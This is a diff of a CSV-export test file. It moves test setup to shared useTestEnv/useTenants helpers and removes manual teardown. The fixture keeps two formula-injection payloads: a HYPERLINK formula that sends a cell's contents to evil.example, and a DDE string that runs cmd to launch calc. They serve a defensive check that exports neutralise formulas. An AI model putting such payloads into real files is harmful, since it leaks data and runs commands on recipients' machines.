@@ -1,5 +1,5 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createTestEnv, seedTenant, type SeededTenant, type TestEnv } from '../setup/test-env.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { useTenants, useTestEnv } from '../setup/use-test-env.ts';
 import { ROLLUP_TEST_ENV, rolledUp } from '../setup/rollups.ts';
 import { device, session } from '../setup/events.ts';
 import { push } from '../setup/push.ts';
@@ -9,13 +9,10 @@ import { push } from '../setup/push.ts';
 
 const DAY = '2026-11-16';
 const NAMES = { '0770935Y': '=HYPERLINK("https://evil.example/?"&A1,"Voir")', '0770936Z': "@SUM(1+1)*cmd|' /C calc'!A0" };
-let env: TestEnv;
-let tenant: SeededTenant;
+const env = useTestEnv({ env: ROLLUP_TEST_ENV, worker: true });
+const [tenant] = useTenants(env, 'csv');
 
 beforeAll(async () => {
-  env = await createTestEnv(ROLLUP_TEST_ENV);
-  await env.startWorker();
-  tenant = await seedTenant(env, 'csv');
   for (const [uai, name] of Object.entries(NAMES)) {
     const res = await env.app.inject({
       method: 'POST',
@@ -32,7 +29,6 @@ beforeAll(async () => {
   );
   await rolledUp(env, tenant.tenantId);
 });
-afterAll(async () => env?.close());
 
 describe('CSV exports', () => {
   it('write a cell a spreadsheet would run as a formula as text, prefixed with a quote', async () => {
